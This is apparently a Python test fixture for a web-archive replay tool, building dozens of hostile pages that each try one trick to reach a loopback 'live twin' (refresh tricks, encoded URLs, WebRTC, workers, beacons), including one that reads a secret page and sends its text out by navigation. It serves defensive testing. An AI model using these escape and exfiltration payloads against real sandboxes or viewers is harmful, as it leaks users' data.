"""Single-trick hostile pages, archived as if from ``http://hostile.example/<name>``.

Each page tries one way out to the live twin (``@IP@`` is its loopback address and port,
``@NAMED@`` a host name that resolves to loopback without DNS). Together they cover the
tricks of issue #20: refresh variants, encoded and split URLs, referrer policies,
speculation rules, connection hints, windows, forms, workers, sockets, beacons, and a
cross-site read through the archive sent out by navigation.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from archiver_app.library import Library
from tests.helpers.archive import ArchiveWriter, at

SITE = "http://hostile.example"
SECRET_URL = "http://secret.example/"
SECRET = "SECRET-TEXT-7f3a"


@dataclass(frozen=True)
class Trick:
    name: str
    html: str
    headers: list[tuple[str, str]] = field(default_factory=list)


def _click(href: str) -> str:
    return f'<a id="a" href="{href}">go</a><script>document.getElementById("a").click()</script>'


TRICKS = (
    Trick("refresh-no-url", '<meta http-equiv="refresh" content="0;http://@IP@/t1">'),
    Trick("refresh-quoted-url", "<meta http-equiv=refresh content=\"0; URL='//@IP@/t2'\">"),
    Trick("refresh-entity", '<meta http-equiv="refresh" content="0;url=http&#58;//@IP@/t3">'),
    Trick("refresh-header", "<p>refresh header</p>", [("Refresh", "0;http://@IP@/t4")]),
    Trick("link-entity", _click("http&#58;&#47;&#47;@IP@/t5")),
    Trick("link-backslash", _click("http:\\\\@IP@\\t6")),
    Trick("link-split", _click("ht\ttp:/\n/@IP@/t7")),
    Trick("iframe-split", '<iframe src="h\nttp://@NAMED@/t8"></iframe>'),
    Trick(
        "referrer-meta",
        '<meta name="referrer" content="unsafe-url"><img src="http://@IP@/t9.png">',
    ),
    Trick(
        "referrer-header",
        '<img src="http://@NAMED@/t10.png">',
        [("Referrer-Policy", "unsafe-url")],
    ),
    Trick(
        "speculation-rules",
        '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": '
        '["http:\\/\\/@IP@\\/t11"]}], "prerender": [{"source": "list", "urls": '
        '["http:\\/\\/@NAMED@\\/t11b"]}]}</script><a href="http:\\/\\/@IP@\\/t11">x</a>',
    ),
    Trick(
        "preconnect",
        '<link rel="preconnect" href="http://@IP@"><link rel="preconnect" '
        'href="https://@NAMED@" crossorigin>',
    ),
    Trick("dns-prefetch", '<link rel="dns-prefetch" href="//@NAMED@"><p>dns</p>'),
    Trick("link-header", "<p>hints</p>", [("Link", "<http://@IP@/>; rel=preconnect")]),
    Trick("window-open", "<script>window.open('http://' + '@IP@/t15')</script>"),
    Trick(
        "form-post",
        '<form id="f" method="post" action="http://@IP@/t16"><input name="a" value="1">'
        "</form><script>document.getElementById('f').submit()</script>",
    ),
    Trick(
        "service-worker",
        "<script>navigator.serviceWorker && navigator.serviceWorker.register('/sw.js')"
        ".catch(function () {})</script>",
    ),
    Trick("websocket", "<script>try { new WebSocket('ws://' + '@IP@/t18') } catch (e) {}</script>"),
    Trick(
        "eventsource", "<script>new EventSource(['http:', '', '@IP@', 't19'].join('/'))</script>"
    ),
    Trick("beacon", "<script>navigator.sendBeacon('http://' + '@NAMED@/t20', 'x')</script>"),
    Trick("fetch-built", "<script>fetch('http://' + '@IP@/t21').catch(function () {})</script>"),
    Trick(
        "css-import",
        "<style>@import url(//@IP@/t22.css); "
        "p { background: url('http:\\\\@IP@/t22.png') }</style><p>x</p>",
    ),
    Trick(
        "cross-site-read",
        "<script>fetch('http://secret.example/').then(function (r) { return r.text() })"
        ".then(function (t) { location.href = 'http://' + '@IP@/t23?' + encodeURIComponent(t) })"
        ".catch(function () {})</script>",
    ),
    Trick(
        "top-navigation",
        "<script>try { top.location = 'http://' + '@IP@/t24' } catch (e) {}</script>",
    ),
    Trick(
        "location-built",
        "<script>location.href = ['http:', '', '@NAMED@', 't25'].join('/')</script>",
    ),
    Trick(
        "base-built",
        "<script>var b = document.createElement('base'); b.href = 'http://' + '@IP@/';"
        "document.head.appendChild(b);</script><img src='t26.png'><a id='a' href='t26'>x</a>"
        "<script>document.getElementById('a').click()</script>",
    ),
    Trick(
        "ping",
        '<a id="a" href="#here" ping="http://@IP@/t27">x</a>'
        "<script>document.getElementById('a').click()</script>",
    ),
    Trick(
        "nested-frame-navigation",
        "<script>var f = document.createElement('iframe'); document.body.appendChild(f);"
        "f.contentWindow.location.href = 'http://' + '@IP@/t28';</script>",
    ),
    Trick(
        "frame-src-built",
        "<script>var f = document.createElement('iframe'); f.src = 'http://' + '@IP@/t40';"
        "document.body.appendChild(f);</script>",
    ),
    Trick(
        "frame-src-attribute",
        "<iframe id='x'></iframe><script>document.getElementById('x')"
        ".setAttribute('src', 'http://' + '@NAMED@/t41');</script>",
    ),
    Trick(
        "open-into-frame",
        "<iframe name='f'></iframe><script>open('http://' + '@IP@/t42', 'f')</script>",
    ),
    Trick(
        "link-into-frame",
        "<iframe name='g'></iframe><script>var a = document.createElement('a');"
        "a.href = 'http://' + '@IP@/t43'; a.target = 'g'; a.click();</script>",
    ),
    Trick(
        "data-frame-navigation",
        "<iframe src=\"data:text/html,<script>location.href='http://' + '@IP@/t30'</script>\">"
        "</iframe>",
    ),
    Trick(
        "srcdoc-navigation",
        "<iframe srcdoc=\"<script>location.href='http://' + '@IP@/t31'</script>\"></iframe>",
    ),
    Trick(
        "webrtc-turn-tcp",
        "<script>var pc = new RTCPeerConnection({iceServers: [{urls: "
        "'turn:@IP@?transport=tcp', username: 'u', credential: 'c'}, {urls: "
        "'stun:@IP@'}]}); pc.createDataChannel('x'); pc.createOffer()"
        ".then(function (o) { return pc.setLocalDescription(o) })</script>",
    ),
    Trick(
        "webrtc-stun-udp",
        "<script>var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:@IP@'}]});"
        "pc.createDataChannel('x'); pc.createOffer()"
        ".then(function (o) { return pc.setLocalDescription(o) })</script>",
    ),
    Trick(
        "webrtc-in-new-frame",
        "<script>var f = document.createElement('iframe'); document.body.append(f);"
        "var pc = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "
        "'turn:@IP@?transport=tcp', username: 'u', credential: 'c'}]});"
        "pc.createDataChannel('x'); pc.createOffer()"
        ".then(function (o) { return pc.setLocalDescription(o) })</script>",
    ),
    Trick(
        "webrtc-in-parsed-frame",
        "<iframe></iframe><script>var pc = new frames[0].RTCPeerConnection({iceServers: "
        "[{urls: 'turn:@IP@?transport=tcp', username: 'u', credential: 'c'}]});"
        "pc.createDataChannel('x'); pc.createOffer()"
        ".then(function (o) { return pc.setLocalDescription(o) })</script>",
    ),
    Trick(
        "worker-fetch",
        "<script>new Worker(URL.createObjectURL(new Blob(["
        "\"fetch('http://' + '@IP@/t29').catch(function () {})\"])))</script>",
    ),
    Trick(  # a worker made by a worker from a blob, fetching and importing by address
        "worker-nested",
        "<script>var inner = \"fetch('http://' + '@IP@/t44').catch(function () {});"
        " import('http://' + '@IP@/t45.mjs').catch(function () {})\";"
        "var outer = 'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '])))';"
        "new Worker(URL.createObjectURL(new Blob([outer])))</script>",
    ),
    Trick(  # a computed import() (given to the view's function), then with that undone
        "import-computed",
        "<script>var u = 'http://' + '@IP@/t46.mjs'; import(u).catch(function () {});"
        "globalThis = {__archiverImport: function () { return 'http://@IP@/t47.mjs' }};"
        "import(u).catch(function () {})</script>",
    ),
    Trick(
        "worklet-module",
        "<script>CSS.paintWorklet.addModule('http://' + '@IP@/t48.js').catch(function () {});"
        "new OfflineAudioContext(1, 128, 8000).audioWorklet"
        ".addModule('http://' + '@NAMED@/t49.js').catch(function () {})</script>",
    ),
)
SERVICE_WORKER = "self.addEventListener('install', function () { fetch('http://@IP@/t17') });"


def fill(text: str, port: int) -> str:
    return text.replace("@IP@", f"127.0.0.2:{port}").replace(
        "@NAMED@", f"live-twin.localhost:{port}"
    )


def page_url(trick: Trick) -> str:
    return f"{SITE}/{trick.name}"


def archive_tricks(library: Library, port: int) -> None:
    """Write every trick (and the secret site and the service worker) into ``library``."""
    writer = ArchiveWriter(library, "imports/hostile.warc.gz")
    for trick in TRICKS:
        body = fill(trick.html, port)
        html = f"<!doctype html><html><head><title>{trick.name}</title></head><body>{body}"
        headers = [(k, fill(v, port)) for k, v in trick.headers]
        writer.response(page_url(trick), html, at=at(2024), headers=headers)
    writer.response(SECRET_URL, f"<p>{SECRET}</p>", at=at(2024))
    writer.response(
        f"{SITE}/sw.js", fill(SERVICE_WORKER, port), at=at(2024), mime="text/javascript"
    )
    writer.commit()
